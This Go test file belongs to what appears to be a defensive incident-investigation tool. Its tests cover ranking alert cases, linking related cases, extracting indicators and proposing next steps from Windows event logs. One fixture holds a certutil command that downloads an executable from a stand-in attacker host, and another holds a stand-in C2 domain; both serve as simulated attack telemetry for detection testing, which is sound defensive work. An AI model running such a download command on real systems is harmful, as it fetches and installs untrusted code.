package investigate

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"reeve"
)

func TestTheGravestCaseComesFirst(t *testing.T) {
	make := func(label reeve.Label, score int, host string, at reeve.Time, id string) reeve.Case {
		return reeve.Case{ID: id, Verdict: reeve.Verdict{Label: label, Score: score}, Subject: reeve.Subject{Host: host, Time: at}}
	}
	want := []reeve.Case{
		make(reeve.Malicious, 10, "b", 1, "1"),
		make(reeve.Suspicious, 80, "b", 1, "2"),
		make(reeve.Suspicious, 40, "a", 9, "3"),
		make(reeve.Suspicious, 40, "b", 1, "4"),
		make(reeve.Suspicious, 40, "b", 2, "5"),
		make(reeve.Suspicious, 40, "b", 2, "6"),
		make(reeve.Inconclusive, 90, "a", 1, "7"),
		make(reeve.Expected, 95, "a", 1, "8"),
		make(reeve.Benign, 99, "a", 1, "9"),
	}
	got := slices.Clone(want)
	slices.Reverse(got)
	rank(got)
	for i := range want {
		if got[i].ID != want[i].ID {
			t.Errorf("place %d has case %s", i+1, got[i].ID)
		}
	}
}

func TestCasesThatBelongTogetherSaySo(t *testing.T) {
	hash := "SHA256=" + strings.Repeat("AB", 32)
	chain := []record{ // certutil fetches under a traced program
		starts("10:00:10", 300, tracer, "mftrace.exe "+payload, 200, shell),
		starts("10:00:11", 400, payload, payload, 300, tracer).with("Hashes", hash),
		starts("10:00:12", 500, `C:\Windows\System32\certutil.exe`, "certutil -urlcache -f http://evil.example/x x.exe", 400, payload),
	}
	var other []record
	for _, r := range chain[:2] {
		other = append(other, r.on("pc2"))
	}
	inv := logs{"a.evtx": chain, "b.evtx": other}.run(t, Options{})
	ids := map[string]string{}
	for _, c := range inv.Cases {
		ids[c.Subject.Host+" "+baseOf(c.Subject.Image)] = c.ID
	}
	related := func(c *reeve.Case) string {
		var out []string
		for _, r := range c.Related {
			for name, id := range ids {
				if id == r.Case {
					out = append(out, name+": "+r.Why)
				}
			}
		}
		slices.Sort(out)
		return strings.Join(out, "; ")
	}
	for i := range inv.Cases {
		c := &inv.Cases[i]
		want := map[string]string{
			"pc.corp.example mftrace.exe":  "pc.corp.example certutil.exe: a process stands in both trees; pc2 mftrace.exe: the same payload, by hash",
			"pc.corp.example certutil.exe": "pc.corp.example mftrace.exe: a process stands in both trees",
			"pc2 mftrace.exe":              "pc.corp.example mftrace.exe: the same payload, by hash",
		}[c.Subject.Host+" "+baseOf(c.Subject.Image)]
		if got := related(c); got != want {
			t.Errorf("%s %s: %q, want %q", c.Subject.Host, c.Subject.Image, got, want)
		}
	}
}

// TestRelationsNeedNoGUID: auditing gives pids only.
func TestRelationsNeedNoGUID(t *testing.T) {
	inv := logs{"a.evtx": {audited("10:00:10", 300, tracer, 200, shell), audited("10:00:12", 500, `C:\Windows\System32\tttracer.exe`, 300, tracer),
		audited("11:00:10", 300, `C:\Windows\System32\dxcap.exe`, 200, shell)}}.run(t, Options{})
	if c := caseOf(t, inv, "mftrace.exe"); len(c.Related) != 1 || c.Related[0].Case != caseOf(t, inv, "tttracer.exe").ID {
		t.Errorf("related: %+v", c.Related)
	}
}

func TestAThousandCasesOfOnePayloadAreRelatedQuickly(t *testing.T) {
	cases := make([]reeve.Case, 20_000)
	for i := range cases {
		cases[i] = reeve.Case{ID: fmt.Sprintf("%05d", i), Payloads: []reeve.Payload{{Hashes: reeve.Hashes{SHA256: "ab"}}}}
	}
	relate(cases)
	for _, i := range []int{0, 19_999} {
		if n := len(cases[i].Related); n != maxRelated {
			t.Errorf("case %d has %d relations", i, n)
		}
	}
	if cases[500].Related[0].Case != "00000" {
		t.Errorf("the gravest is not named first: %+v", cases[500].Related)
	}
}

func TestIndicatorsOfACase(t *testing.T) {
	own, its := "SHA256="+strings.Repeat("11", 32)+",MD5="+strings.Repeat("22", 16), "SHA256="+strings.Repeat("AA", 32)+",IMPHASH="+strings.Repeat("BB", 16)
	log := day()
	log[2], log[3] = log[2].with("Hashes", own), log[3].with("Hashes", its)
	for _, ip := range []string{"203.0.113.7", "203.0.113.7", "10.0.0.5", "127.0.0.1", "203.0.113.8"} {
		log = append(log, deed(3, "10:00:20", 400, payload, "DestinationIp", ip, "DestinationPort", "443"))
	}
	log = append(log, deed(22, "10:00:19", 400, payload, "QueryName", "c2.evil.example"), deed(22, "10:00:19", 100, desktop, "QueryName", "intranet.example"))
	c := caseOf(t, logs{"a.evtx": log}.run(t, Options{}), "mftrace.exe")
	var got []string
	for _, i := range c.Indicators {
		got = append(got, fmt.Sprintf("%s %s %d", i.Type, i.Value, len(i.Refs)))
	}
	want := []string{
		"sha256 " + strings.Repeat("11", 32) + " 1", "sha256 " + strings.Repeat("aa", 32) + " 2", "md5 " + strings.Repeat("22", 16) + " 1", "imphash " + strings.Repeat("bb", 16) + " 2",
		"ip 203.0.113.7 2", "ip 203.0.113.8 1", "domain c2.evil.example 1", "path " + payload + " 2",
	}
	if !slices.Equal(got, want) {
		t.Errorf("indicators\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

func TestNextStepsFitTheVerdict(t *testing.T) {
	c := reeve.Case{
		Subject:  reeve.Subject{Host: "pc", User: `CORP\ann`, Time: moment("10:00:00"), Hashes: reeve.Hashes{SHA256: "0wn"}},
		Payloads: []reeve.Payload{{Kind: "exe", Image: payload}, {Kind: "attach", Image: `C:\x\1234`}},
		Indicators: []reeve.Indicator{{Type: "sha256", Value: "0wn"}, {Type: "sha256", Value: "1ts"}, {Type: "md5", Value: "1ts"}, {Type: "imphash", Value: "x"}, {Type: "ip", Value: "203.0.113.7"},
			{Type: "domain", Value: "c2.example"}, {Type: "url", Value: "http://c2.example/"}},
		Answers: []reeve.Answer{{Question: "identity", Stance: reeve.Refutes}, {Question: "payload", Stance: reeve.Unknown, Missing: []reeve.Need{{Needs: "x", Enable: "switch it on"}}}},
	}
	isolate, collect := "Isolate pc and keep its memory and logs before anything is cleaned.", "Collect "+payload+" from pc and examine it."
	search := []string{"Search the estate for the sha256 1ts.", "Search the estate for the ip 203.0.113.7.", "Search the estate for the domain c2.example."}
	ask, next := `Ask CORP\ann, or the owner of pc, about this command at 2024-05-01T10:00:00.0000000Z.`, `To answer "payload" next time: switch it on.`
	for _, x := range []struct {
		label reeve.Label
		want  []string
	}{
		{reeve.Malicious, append(append([]string{isolate, collect}, search...), ask, next)},
		{reeve.Suspicious, append(append([]string{collect}, search...), ask, next)},
		{reeve.Inconclusive, []string{ask, next}},
		{reeve.Expected, nil},
		{reeve.Benign, nil},
	} {
		c.Verdict.Label = x.label
		if got := nextSteps(&c); !slices.Equal(got, x.want) {
			t.Errorf("%s:\n%s\nwant\n%s", x.label, strings.Join(got, "\n"), strings.Join(x.want, "\n"))
		}
	}
	c.Verdict.Label, c.Answers[0].Stance = reeve.Suspicious, reeve.Supports
	contains(t, "the steps of a program that is not what its name says", strings.Join(nextSteps(&c), "\n"), "sha256 0wn")
	c.Answers = append(c.Answers, slices.Repeat([]reeve.Answer{{Question: "x", Missing: []reeve.Need{{Enable: "a"}, {Enable: "b"}, {Enable: "c"}, {Enable: "d"}, {Enable: "e"}}}}, 3)...)
	if n := len(nextSteps(&c)); n != maxSteps {
		t.Errorf("%d steps", n)
	}
}

func TestATreeHasParentsBeforeChildren(t *testing.T) {
	log := day()
	log = append(log, starts("10:00:12", 600, `C:\a.exe`, "a", 400, payload), starts("10:00:11", 700, `C:\b.exe`, "b", 600, `C:\a.exe`)) // clocks differ
	c := caseOf(t, logs{"a.evtx": log}.run(t, Options{}), "mftrace.exe")
	seen := map[string]bool{"": true}
	for _, n := range c.Tree {
		if !seen[n.Parent] {
			t.Errorf("%s comes before its parent", n.Image)
		}
		seen[n.ID] = true
	}
	contains(t, "the tree", shape(c), "b.exe<a.exe:descendant")
}

func TestATimelineIsInOrderOfTime(t *testing.T) {
	c := caseOf(t, logs{"a.evtx": planting()}.run(t, Options{}), "mftrace.exe")
	if len(c.Timeline) < 6 {
		t.Fatalf("%d moments", len(c.Timeline))
	}
	for i := 1; i < len(c.Timeline); i++ {
		if c.Timeline[i].Time < c.Timeline[i-1].Time {
			t.Errorf("%s comes after %s", c.Timeline[i].Says, c.Timeline[i-1].Says)
		}
	}
}

func TestMomentsInWords(t *testing.T) {
	for _, c := range []struct {
		rec  record
		want string
	}{
		{starts("10:00:00", 1, payload, "payload.exe -x", 2, shell), "cmd.exe started payload.exe -x"},
		{starts("10:00:00", 1, payload, "payload.exe -x", 2, shell).without("CommandLine"), "cmd.exe started " + payload},
		{deed(5, "10:00:00", 1, payload), "payload.exe ended"},
		{deed(3, "10:00:00", 1, payload, "DestinationIp", "203.0.113.7", "DestinationPort", "443"), "payload.exe network connection 203.0.113.7:443"},
		{deed(3, "10:00:00", 1, payload, "DestinationIp", "203.0.113.7", "DestinationHostname", "c2.example", "DestinationPort", "443"), "payload.exe network connection c2.example:443"},
		{deed(13, "10:00:00", 1, payload, "TargetObject", `HKLM\Run\x`, "Details", "x.exe"), `payload.exe registry set HKLM\Run\x = x.exe`},
		{deed(22, "10:00:00", 1, payload, "QueryName", "c2.example"), "payload.exe dns query c2.example"},
		{security(4624, "10:00:00", "TargetUserName", "ann", "TargetDomainName", "CORP", "LogonType", "10", "IpAddress", "203.0.113.7"), `logon CORP\ann type 10 203.0.113.7`},
	} {
		d := decode(t, c.rec)
		if got := words(d); got != c.want {
			t.Errorf("%q, want %q", got, c.want)
		}
	}
}
